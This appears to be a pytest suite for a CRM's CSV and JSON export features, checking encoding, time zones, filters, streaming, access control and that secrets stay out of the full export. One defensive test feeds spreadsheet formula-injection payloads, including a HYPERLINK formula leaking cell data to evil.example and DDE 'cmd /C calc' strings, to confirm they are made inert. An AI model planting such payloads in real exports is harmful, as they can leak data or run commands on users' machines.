"""Export: the lead list and the activities feed as CSV files as filtered, everything as JSON,
streamed; and the same from the command line."""

import codecs
import csv
import io
import itertools
import json
from datetime import datetime, timedelta
from decimal import Decimal

import pytest
from sqlalchemy import select

from crm import csv_export, funnel
from crm.exports import queries
from crm.extensions import db
from crm.intake.receiving import new_token
from crm.models import ActivityKind, ApiToken, IntakeForm, Lead, utcnow
from tests import factories
from tests.querycount import counting_queries

LEAD_HEADER = [
    "Number",
    "Title",
    "Contact person",
    "Phone",
    "Email",
    "Source",
    "Stage",
    "Owner",
    "Value",
    "Next step",
    "Next step note",
    "Lost reason",
    "Lost note",
    "Last contact",
    "Created",
    "Archived",
]
ACTIVITY_HEADER = ["Lead number", "Lead", "When", "Kind", "Author", "What was said", "Status after"]


def table(response):
    """The rows of a CSV download, after checking it is UTF-8 with a byte order mark."""
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def records(response):
    """The CSV rows as dicts by header."""
    header, *rows = table(response)
    return [dict(zip(header, row, strict=True)) for row in rows]


def log_in(client, user):
    client.post("/login", data={"email": user.email, "password": factories.PASSWORD})
    return client


# The leads file


def test_leads_file_is_utf8_with_bom_and_every_column(logged_in, admin, stages):
    lead = factories.lead(
        title="ООО «Ромашка»",
        owner=admin,
        contact_name="Иван Петров",
        phone="8 (999) 123-45-67",
        email="ivan@example.com",
        source="Сайт",
        value=Decimal("1250000.50"),
        next_step_note="Позвонить",
    )
    response = logged_in.get("/export/leads.csv")

    header, row = table(response)
    assert header == LEAD_HEADER
    assert row[:9] == [
        str(lead.number),
        "ООО «Ромашка»",
        "Иван Петров",
        "8 (999) 123-45-67",
        "ivan@example.com",
        "Сайт",
        stages[0].name,
        "Ada Admin",
        "1250000.50",
    ]
    assert row[10] == "Позвонить"
    assert row[15] == "0"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Content-Disposition"].endswith(".csv")


def test_cyrillic_survives_a_round_trip(logged_in, stages):
    said = "Клиент просит «скидку» — ёлки, “кавычки”; запятые, и\nперенос строки"
    factories.lead(title=said, contact_name="Юлия Ёжикова")
    (row,) = records(logged_in.get("/export/leads.csv"))
    assert row["Title"] == said
    assert row["Contact person"] == "Юлия Ёжикова"


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
        "+SUM(1+1)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ],
)
def test_formula_like_cells_are_made_inert(logged_in, stages, typed):
    factories.lead(title=typed, contact_name=typed)
    (row,) = records(logged_in.get("/export/leads.csv"))
    # Saving strips the tab; what is left would still start a formula.
    stored = typed.strip()
    assert row["Title"] == "'" + stored
    assert row["Contact person"] == "'" + stored


@pytest.mark.parametrize("typed", ["+7 999 123 45 67", "+7 (999) 123-45-67", "-1 250,50"])
def test_phones_and_negative_amounts_are_not_quoted(logged_in, stages, typed):
    """Digits, spaces and brackets can run nothing: a quote would only spoil the phone."""
    factories.lead(title="Phone", phone=typed, contact_name=typed)
    (row,) = records(logged_in.get("/export/leads.csv"))
    assert row["Contact person"] == typed


def test_harmless_text_is_left_alone(logged_in, stages):
    factories.lead(title="Acme = best", contact_name="Anna-Maria")
    (row,) = records(logged_in.get("/export/leads.csv"))
    assert (row["Title"], row["Contact person"]) == ("Acme = best", "Anna-Maria")


def test_dates_are_in_the_users_zone(logged_in, admin, stages):
    admin.timezone = "Asia/Yekaterinburg"  # UTC+5
    lead = factories.lead()
    lead.created_at = datetime(2026, 3, 7, 20, 30)
    lead.next_step_at = datetime(2026, 3, 9, 19, 0)  # midnight of the 10th there: a whole day
    lead.last_activity_at = datetime(2026, 3, 8, 6, 15)
    db.session.commit()
    (row,) = records(logged_in.get("/export/leads.csv"))
    assert row["Created"] == "2026-03-08 01:30"
    assert row["Next step"] == "2026-03-10"
    assert row["Last contact"] == "2026-03-08 11:15"


def test_the_lost_reason_and_note_are_kept(logged_in, admin, stages):
    lead = factories.lead(owner=admin)
    reason = funnel.lost_reason_by_id(1)
    funnel.move_lead(lead, stages[-1], admin, lost_reason=reason, lost_note="Went quiet")
    db.session.commit()
    (row,) = records(logged_in.get("/export/leads.csv"))
    assert (row["Stage"], row["Lost reason"], row["Lost note"]) == (
        stages[-1].name,
        reason.name,
        "Went quiet",
    )


def numbers(response):
    return [int(row["Number"]) for row in records(response)]


def test_the_lists_search_and_filters_decide_what_is_in_the_file(logged_in, admin, stages):
    seller = factories.user(name="Sam Seller")
    mine = factories.lead(title="Acme one", owner=admin)
    theirs = factories.lead(title="Acme two", owner=seller, stage=stages[1])
    other = factories.lead(title="Globex", owner=admin, stage=stages[1])
    archived = factories.lead(title="Acme old", owner=admin)
    archived.archived = True
    db.session.commit()

    assert numbers(logged_in.get("/export/leads.csv?q=acme")) == [theirs.number, mine.number]
    assert numbers(logged_in.get(f"/export/leads.csv?stage={stages[1].id}")) == [
        other.number,
        theirs.number,
    ]
    assert numbers(logged_in.get("/export/leads.csv?owner=me&q=acme")) == [mine.number]
    assert numbers(logged_in.get(f"/export/leads.csv?owner={seller.id}")) == [theirs.number]
    assert numbers(logged_in.get("/export/leads.csv?q=acme&archived=1")) == [
        archived.number,
        theirs.number,
        mine.number,
    ]


def test_the_file_keeps_the_lists_order_and_ignores_its_page(logged_in, stages):
    for title in ("Charlie", "alpha", "Bravo"):
        factories.lead(title=title)
    response = logged_in.get("/export/leads.csv?sort=title&dir=asc&after=999&key=zzz")
    assert [row["Title"] for row in records(response)] == ["Bravo", "Charlie", "alpha"]


@pytest.mark.parametrize(
    "query",
    ["", "sort=title", "sort=stage&dir=desc", "sort=owner", "sort=next_step", "sort=value"],
)
def test_chunks_neither_repeat_nor_skip(logged_in, admin, stages, monkeypatch, query):
    seller = factories.user(name="Bo")
    for n in range(11):
        factories.lead(
            title=f"Lead {n % 3}",
            owner=(admin, seller, None)[n % 3],
            stage=stages[n % 2],
            value=Decimal(n % 4) if n % 5 else None,
            next_step_at=utcnow() + timedelta(days=n % 3) if n % 2 else None,
        )
    whole = numbers(logged_in.get(f"/export/leads.csv?{query}"))
    monkeypatch.setattr(queries, "CHUNK", 2)
    chunked = numbers(logged_in.get(f"/export/leads.csv?{query}"))
    assert chunked == whole
    assert sorted(chunked) == list(range(1, 12))


def test_a_tampered_address_never_fails(logged_in, stages):
    factories.lead()
    for query in ("sort=%00&dir=up", "stage=x&owner=%00", "q=%00", "after=-1&key=%00"):
        assert logged_in.get(f"/export/leads.csv?{query}").status_code == 200


def test_a_salesperson_takes_away_what_the_list_shows_them(client, admin, stages):
    seller = factories.user()
    factories.lead(title="The admin's", owner=admin)
    factories.lead(title="Their own", owner=seller)
    log_in(client, seller)
    assert {row["Title"] for row in records(client.get("/export/leads.csv"))} == {
        "The admin's",
        "Their own",
    }


def test_downloads_need_a_login(client, admin):
    for url in ("/export/leads.csv", "/export/activities.csv", "/export/everything.json"):
        response = client.get(url)
        assert response.status_code in (302, 303)
        assert "/login" in response.headers["Location"]


# Streaming


def test_downloads_are_streamed(logged_in, admin, stages):
    lead = factories.lead()
    factories.activity(lead, admin)
    for url in ("/export/leads.csv", "/export/activities.csv?all=1", "/export/everything.json"):
        response = logged_in.get(url, buffered=False)
        assert response.is_streamed, url
        assert "Content-Length" not in response.headers
        response.close()


def test_a_large_table_is_written_in_pieces_as_it_is_read():
    read = []

    def endless_rows():
        for n in itertools.count():
            read.append(n)
            yield (n, "=cmd", "Ёж")

    pieces = csv_export.pieces(["n", "formula", "text"], endless_rows())
    first = next(pieces)
    assert first.startswith(csv_export.BOM + "n,formula,text\r\n0,'=cmd,Ёж\r\n")
    # The first piece was sent before more than its own rows were read from the endless table.
    assert len(read) == csv_export.STREAM_ROWS
    second = next(pieces)
    assert second.startswith(f"{csv_export.STREAM_ROWS},'=cmd,Ёж\r\n")
    assert len(read) == 2 * csv_export.STREAM_ROWS


def test_pieces_make_the_same_file_as_to_text():
    rows = [(n, f"=row {n}", None, Decimal("1.50"), True) for n in range(1234)]
    header = ["a", "b", "c", "d", "e"]
    assert "".join(csv_export.pieces(header, iter(rows))) == csv_export.to_text(header, rows)


# The activities file


def at(days_ago, hour=10):
    return datetime.combine(utcnow().date() - timedelta(days=days_ago), datetime.min.time()) + (
        timedelta(hours=hour)
    )


@pytest.fixture
def history(app, admin, stages):
    """Two people's contacts over a week, one of them deleted, one moving a lead on."""
    seller = factories.user(name="Sam Seller")
    acme = factories.lead(title="Acme", owner=admin)
    globex = factories.lead(title="Globex", owner=seller)
    factories.activity(acme, admin, body="Called: =SUM(A1)", occurred_at=at(6))
    factories.activity(globex, seller, "email", body="Письмо отправлено", occurred_at=at(3))
    factories.activity(acme, admin, "meeting", body="Met", occurred_at=at(0, 1), stage=stages[1])
    deleted = factories.activity(globex, seller, body="Oops", occurred_at=at(0, 2))
    funnel.delete_activity(deleted, seller)
    db.session.commit()
    return seller


def local(moment):
    """A stored moment as the file writes it for someone in UTC."""
    return moment.strftime("%Y-%m-%d %H:%M")


def said(response):
    return [row["What was said"] for row in records(response)]


def test_activities_file_columns_and_order(logged_in, admin, stages, history):
    response = logged_in.get("/export/activities.csv?all=1")
    header, *rows = table(response)
    assert header == ACTIVITY_HEADER
    assert rows == [
        ["1", "Acme", local(at(6)), "Call", "Ada Admin", "Called: =SUM(A1)", ""],
        ["2", "Globex", local(at(3)), "Email", "Sam Seller", "Письмо отправлено", ""],
        ["1", "Acme", local(at(0, 1)), "Meeting", "Ada Admin", "Met", stages[1].name],
    ]


def test_activities_file_follows_the_feeds_filters(logged_in, admin, history):
    # The feed's default is today, and so is the file's.
    assert said(logged_in.get("/export/activities.csv")) == ["Met"]
    assert said(logged_in.get("/export/activities.csv?range=week")) == [
        "Called: =SUM(A1)",
        "Письмо отправлено",
        "Met",
    ]
    assert said(logged_in.get(f"/export/activities.csv?range=week&author={history.id}")) == [
        "Письмо отправлено"
    ]
    email = db.session.scalar(select(ActivityKind).where(ActivityKind.code == "meeting"))
    assert said(logged_in.get(f"/export/activities.csv?all=1&kind={email.id}")) == ["Met"]
    day = at(3).date().isoformat()
    assert said(logged_in.get(f"/export/activities.csv?from={day}&to={day}")) == [
        "Письмо отправлено"
    ]
    # The feed's page position is not a filter.
    assert len(said(logged_in.get("/export/activities.csv?range=week&before_id=1"))) == 3


def test_activities_file_in_the_users_zone(logged_in, admin, stages):
    admin.timezone = "America/New_York"
    lead = factories.lead(owner=admin)
    factories.activity(lead, admin, occurred_at=datetime(2026, 1, 15, 3, 30))
    (row,) = records(logged_in.get("/export/activities.csv?all=1"))
    assert row["When"] == "2026-01-14 22:30"


def test_bad_feed_filters_get_a_message(logged_in):
    response = logged_in.get("/export/activities.csv?from=2026-13-45")
    assert response.status_code == 422
    assert "Enter a date as year-month-day" in response.text


def activity_chunks_url():
    return "/export/activities.csv?all=1"


def test_activity_chunks_neither_repeat_nor_skip(logged_in, admin, stages, monkeypatch):
    lead = factories.lead(owner=admin)
    same_moment = at(1)
    for n in range(7):
        factories.activity(
            lead, admin, body=f"note {n}", occurred_at=same_moment if n < 4 else at(0, n)
        )
    whole = said(logged_in.get(activity_chunks_url()))
    monkeypatch.setattr(queries, "CHUNK", 2)
    assert said(logged_in.get(activity_chunks_url())) == whole
    assert sorted(whole) == [f"note {n}" for n in range(7)]


# The full JSON export


def test_everything_as_json(logged_in, admin, stages, history):
    admin.calendar_token = "calendar-secret-token-123456"
    form = IntakeForm(name="Site", token=new_token(), source="Web", allowed_origins="")
    db.session.add(form)
    db.session.add(
        ApiToken(user_id=admin.id, name="Sync", token_hash="f" * 64, token_start="crm_abcdef")
    )
    db.session.commit()
    response = logged_in.get("/export/everything.json")
    assert response.status_code == 200
    assert response.mimetype == "application/json"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="crm-export-')
    data = json.loads(response.data)

    assert data["format"] == "crm-export"
    assert {
        "users",
        "stages",
        "activity_kinds",
        "lost_reasons",
        "settings",
        "intake_forms",
        "leads",
        "activities",
        "activity_revisions",
        "stage_changes",
        "planned_steps",
    } <= set(data)
    assert {user["email"] for user in data["users"]} == {admin.email, history.email}
    assert set(data["users"][0]) == {
        "id",
        "email",
        "name",
        "role",
        "active",
        "locale",
        "timezone",
        "created_at",
    }
    assert [stage["name"] for stage in data["stages"]] == [stage.name for stage in stages]
    assert [lead["title"] for lead in data["leads"]] == ["Acme", "Globex"]
    assert data["leads"][0]["value"] == "1000.00"
    assert data["leads"][0]["created_at"].endswith("Z")
    assert "search_text" not in data["leads"][0]
    activities = {activity["body"]: activity for activity in data["activities"]}
    assert activities["Oops"]["deleted"] is True
    assert activities["Oops"]["deleted_at"].endswith("Z")
    assert activities["Met"]["deleted"] is False
    assert len(data["activity_revisions"]) == 1
    assert len(data["stage_changes"]) == 3
    assert data["intake_forms"][0]["name"] == "Site"


def test_the_json_export_holds_no_secrets(logged_in, admin, stages):
    admin.calendar_token = "calendar-secret-token-123456"
    form = IntakeForm(name="Site", token=new_token(), allowed_origins="")
    db.session.add(form)
    db.session.add(
        ApiToken(user_id=admin.id, name="Sync", token_hash="f" * 64, token_start="crm_abcdef")
    )
    db.session.commit()
    text = logged_in.get("/export/everything.json").text
    for secret in (admin.password_hash, admin.calendar_token, form.token, "f" * 64, "crm_abcdef"):
        assert secret not in text
    for column in ("password_hash", "session_version", "calendar_token", "token", "token_hash"):
        assert f'"{column}"' not in text


def test_the_json_export_is_for_administrators_only(client, admin, stages):
    for role in ("salesperson", "manager"):
        person = factories.user(role=role)
        log_in(client, person)
        assert client.get("/export/everything.json").status_code == 403
        client.post("/logout")


def test_an_empty_crm_exports_as_valid_json(logged_in):
    data = json.loads(logged_in.get("/export/everything.json").data)
    assert data["leads"] == [] and data["activities"] == []


def test_json_chunks_neither_repeat_nor_skip(logged_in, admin, stages, monkeypatch):
    for _n in range(5):
        factories.lead()
    whole = json.loads(logged_in.get("/export/everything.json").data)
    monkeypatch.setattr(queries, "CHUNK", 2)
    chunked = json.loads(logged_in.get("/export/everything.json").data)
    whole.pop("exported_at"), chunked.pop("exported_at")
    assert chunked == whole
    assert [lead["number"] for lead in chunked["leads"]] == [1, 2, 3, 4, 5]


# The cost of a download does not grow with what it holds


def queries_for(client, url):
    with counting_queries() as statements:
        response = client.get(url)
        assert response.status_code == 200
        response.get_data()
    return len(statements)


@pytest.mark.parametrize(
    "url",
    [
        "/export/leads.csv",
        "/export/leads.csv?sort=owner&q=lead",
        "/export/activities.csv?all=1",
        "/export/everything.json",
    ],
)
def test_query_count_does_not_grow_with_the_rows(logged_in, admin, stages, url):
    def add(count):
        for _n in range(count):
            lead = factories.lead(owner=factories.user())
            factories.activity(lead, admin)

    add(2)
    few = queries_for(logged_in, url)
    add(20)
    assert queries_for(logged_in, url) == few


# The command line


def test_export_command_writes_the_three_files(runner, admin, stages, tmp_path):
    lead = factories.lead(title="=Ромашка", owner=admin)
    factories.activity(lead, admin, body="Звонок")
    lead.archived = True
    db.session.commit()
    paths = {name: tmp_path / f"out.{name}" for name in ("leads", "activities", "json")}

    result = runner.invoke(
        args=[
            "export",
            "--leads",
            str(paths["leads"]),
            "--activities",
            str(paths["activities"]),
            "--json",
            str(paths["json"]),
        ]
    )

    assert result.exit_code == 0, result.output
    assert "Wrote 1 leads" in result.output
    leads_file = paths["leads"].read_bytes()
    assert leads_file.startswith(codecs.BOM_UTF8)
    header, row = list(csv.reader(io.StringIO(leads_file.decode("utf-8-sig"), newline="")))
    assert header == LEAD_HEADER
    assert (row[1], row[15]) == ("'=Ромашка", "1")
    activities = paths["activities"].read_text(encoding="utf-8-sig")
    assert "Звонок" in activities
    data = json.loads(paths["json"].read_text(encoding="utf-8"))
    assert data["leads"][0]["title"] == "=Ромашка"
    assert "password_hash" not in paths["json"].read_text(encoding="utf-8")


def test_export_command_in_russian_to_standard_output(runner, admin, stages):
    factories.lead(title="Ромашка")
    result = runner.invoke(args=["export", "--leads", "-", "--language", "ru", "--timezone", "UTC"])
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes.startswith(codecs.BOM_UTF8)
    assert "Ромашка" in result.stdout


def test_export_command_needs_something_to_export(runner, app):
    result = runner.invoke(args=["export"])
    assert result.exit_code == 2
    assert "--leads, --activities and/or --json" in result.output
    result = runner.invoke(args=["export", "--leads", "-", "--json", "-"])
    assert result.exit_code == 2
    result = runner.invoke(args=["export", "--leads", "-", "--timezone", "Mars/Olympus"])
    assert result.exit_code == 2


def test_every_lead_reaches_the_file(runner, stages, tmp_path, monkeypatch):
    for _n in range(7):
        funnel.create_lead(None, title="Bulk")
    db.session.commit()
    monkeypatch.setattr(queries, "CHUNK", 3)
    path = tmp_path / "leads.csv"
    result = runner.invoke(args=["export", "--leads", str(path)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert [int(row[0]) for row in rows[1:]] == sorted(
        db.session.scalars(select(Lead.number)), reverse=True
    )
